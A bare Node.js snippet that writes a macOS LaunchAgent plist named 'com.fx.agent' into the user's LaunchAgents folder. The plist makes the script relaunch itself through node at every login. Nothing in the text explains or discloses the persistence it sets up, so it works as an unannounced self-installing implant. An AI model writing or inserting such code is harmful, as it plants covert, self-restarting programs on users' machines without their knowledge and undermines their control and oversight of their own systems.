const fs = require('fs'), os = require('os');
const xml = `<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.fx.agent</string><key>RunAtLoad</key><true/><key>ProgramArguments</key><array><string>/usr/bin/node</string><string>${__filename}</string></array></dict></plist>`;
fs.writeFileSync(`${os.homedir()}/Library/LaunchAgents/com.fx.agent.plist`, xml); //@act
